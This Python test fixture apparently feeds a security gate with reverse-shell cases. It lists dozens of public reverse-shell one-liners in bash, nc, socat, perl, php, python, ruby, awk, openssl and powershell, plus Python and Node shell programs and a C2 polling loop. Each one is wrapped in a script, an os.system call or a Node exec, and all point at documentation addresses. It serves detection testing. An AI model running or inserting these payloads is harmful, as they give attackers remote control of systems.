"""Reverse shells as they stand in public lists, each in an app that starts it. They lead to addresses of RFC 5737."""

from __future__ import annotations

from tests.gate import Files

HOST, PORT = "203.0.113.7", "4444"
AT = f"{HOST} {PORT}"

#: What a shell is given; each is tried in a script, in ``os.system`` and in Node's ``exec``.
COMMANDS = {
    "bash -i": f"bash -i >& /dev/tcp/{HOST}/{PORT} 0>&1",
    "bash 196": f"0<&196;exec 196<>/dev/tcp/{HOST}/{PORT}; sh <&196 >&196 2>&196",
    "bash read line": f"exec 5<>/dev/tcp/{HOST}/{PORT};cat <&5 | while read line; do $line 2>&5 >&5; done",
    "bash 5": f"sh -i 5<> /dev/tcp/{HOST}/{PORT} 0<&5 1>&5 2>&5",
    "bash by udp": f"sh -i >& /dev/udp/{HOST}/{PORT} 0>&1",
    "nc and a fifo": f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {AT} >/tmp/f",
    "nc -e": f"nc {AT} -e sh",
    "nc -e before": f"nc -e /bin/sh {AT}",
    "busybox nc -e": f"busybox nc {AT} -e sh",
    "nc -c": f"nc -c sh {AT}",
    "ncat -e": f"ncat {AT} -e sh",
    "ncat --exec": f"ncat --exec /bin/bash {AT}",
    "ncat by udp": f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|ncat -u {AT} >/tmp/f",
    "nc into a shell": f"nc {AT} | sh | nc {HOST} 4445",
    "curl telnet": f"C='curl -Ns telnet://{HOST}:{PORT}'; $C </dev/null 2>&1 | sh 2>&1 | $C >/dev/null",
    "perl": (
        f'perl -e \'use Socket;$i="{HOST}";$p={PORT};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("sh -i");};\''
    ),
    "perl without a shell": (
        f'perl -MIO -e \'$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"{HOST}:{PORT}");'
        "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'"
    ),
    "php exec": f'php -r \'$sock=fsockopen("{HOST}",{PORT});exec("sh <&3 >&3 2>&3");\'',
    "php proc_open": (
        f'php -r \'$sock=fsockopen("{HOST}",{PORT});'
        '$proc=proc_open("sh", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);\''
    ),
    "python -c": (
        "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
        f's.connect(("{HOST}",{PORT}));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);'
        'import pty; pty.spawn("sh")\''
    ),
    "python -c, short": (
        f'python3 -c \'import os,pty,socket;s=socket.socket();s.connect(("{HOST}",{PORT}));'
        '[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")\''
    ),
    "ruby": f'ruby -rsocket -e\'spawn("sh",[:in,:out,:err]=>TCPSocket.new("{HOST}",{PORT}))\'',
    "ruby without a shell": (
        f'ruby -rsocket -e\'exit if fork;c=TCPSocket.new("{HOST}",{PORT});'
        'loop{c.gets.chomp!;(exit! if $_=="exit");IO.popen($_,?r){|io|c.print io.read}}\''
    ),
    "socat": f"socat TCP:{HOST}:{PORT} EXEC:sh",
    "socat with a terminal": f"socat TCP:{HOST}:{PORT} EXEC:'sh',pty,stderr,setsid,sigint,sane",
    "sqlite3": f"sqlite3 /dev/null '.shell rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {AT} >/tmp/f'",
    "telnet": f"TF=$(mktemp -u);mkfifo $TF && telnet {AT} 0<$TF | sh 1>$TF",
    "zsh": f"zsh -c 'zmodload zsh/net/tcp && ztcp {AT} && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
    "lua": (
        f'lua5.1 -e \'local s=require("socket");local t=s.tcp();t:connect("{HOST}",{PORT});while true do '
        'local r,x=t:receive();local f=io.popen(r,"r");local b=f:read("*a");t:send(b);end\''
    ),
    "awk": (
        f'awk \'BEGIN {{s = "/inet/tcp/0/{HOST}/{PORT}"; while(42) {{ do{{ printf "shell>" |& s; s |& getline c; '
        'if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}\' /dev/null'
    ),
    "openssl": f"mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect {HOST}:{PORT} > /tmp/s",
    "powershell": (
        f"pwsh -nop -c \"$c = New-Object System.Net.Sockets.TCPClient('{HOST}',{PORT});$s = $c.GetStream();"
        "[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (New-Object -TypeName "
        'System.Text.ASCIIEncoding).GetString($b,0, $i);$r = (iex $d 2>&1 | Out-String )}"'
    ),
}

PYTHON = {
    "dup2 and a terminal": f"""
import os, pty, socket
s = socket.socket()
s.connect(("{HOST}", {PORT}))
[os.dup2(s.fileno(), f) for f in (0, 1, 2)]
pty.spawn("sh")
""",
    "dup2 and subprocess, in a thread": f"""
import os, socket, subprocess, threading
def work():
    s = socket.create_connection(("{HOST}", {PORT}))
    for number in range(3):
        os.dup2(s.fileno(), number)
    subprocess.call(["/bin/sh", "-i"])
threading.Thread(target=work, daemon=True).start()
""",
    "pipes of subprocess": f"""
import socket, subprocess
s = socket.socket()
s.connect(("{HOST}", {PORT}))
subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
""",
    "commands that are received": f"""
import socket, subprocess
s = socket.socket()
s.connect(("{HOST}", {PORT}))
while True:
    command = s.recv(1024).decode()
    s.send(subprocess.getoutput(command).encode())
""",
    "a shell that listens": """
import os, socket, subprocess
s = socket.socket()
s.bind(("0.0.0.0", 4444))
s.listen(1)
c, _ = s.accept()
for number in range(3):
    os.dup2(c.fileno(), number)
subprocess.run(["/bin/bash", "-i"])
""",
    "commands that are polled for": """
import requests, subprocess, time
while True:
    command = requests.get("https://c2.example.com/next").text
    result = subprocess.run(command, shell=True, capture_output=True)
    requests.post("https://c2.example.com/done", data=result.stdout)
    time.sleep(30)
""",
    "names from __import__": f"""
s = __import__("socket").socket()
s.connect(("{HOST}", {PORT}))
for n in (0, 1, 2):
    __import__("os").dup2(s.fileno(), n)
__import__("os").system("/bin/sh -i")
""",
}

NODE = {
    "pipes": f"""
const net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);
const client = new net.Socket();
client.connect({PORT}, "{HOST}", () => {{ client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); }});
""",
    "pipes, after connecting": f"""
const {{ spawn }} = require("child_process");
require("net").connect({PORT}, "{HOST}", function () {{
  const shell = spawn("sh", ["-i"]);
  this.pipe(shell.stdin); shell.stdout.pipe(this);
}});
""",
    "a shell that listens": """
require("net").createServer((socket) => {
  const shell = require("child_process").spawn("/bin/bash", []);
  socket.pipe(shell.stdin); shell.stdout.pipe(socket); shell.stderr.pipe(socket);
}).listen(4444);
""",
    "commands that are received": f"""
const {{ exec }} = require("child_process");
const s = require("net").connect({PORT}, "{HOST}");
s.on("data", (command) => exec(command.toString(), (error, out) => s.write(out)));
""",
}


def _cases() -> dict[str, tuple[Files, str]]:
    cases: dict[str, tuple[Files, str]] = {}
    for name, command in COMMANDS.items():
        cases[f"script: {name}"] = ({"run.sh": f"#!/bin/bash\n{command}\n"}, "bash run.sh")
        cases[f"os.system: {name}"] = ({"app.py": f"import os\nos.system({command!r})\n"}, "python3 app.py")
        quoted = command.replace("\\", "\\\\").replace("`", "\\`").replace("${", "\\${")
        cases[f"exec: {name}"] = ({"app.js": f'require("child_process").exec(`{quoted}`)\n'}, "node app.js")
    cases |= {f"python: {name}": ({"app.py": text}, "python3 app.py") for name, text in PYTHON.items()}
    cases |= {f"node: {name}": ({"app.js": text}, "node app.js") for name, text in NODE.items()}
    return cases


#: The files of an app and its entrypoint, by name.
REVERSE_SHELLS = _cases()
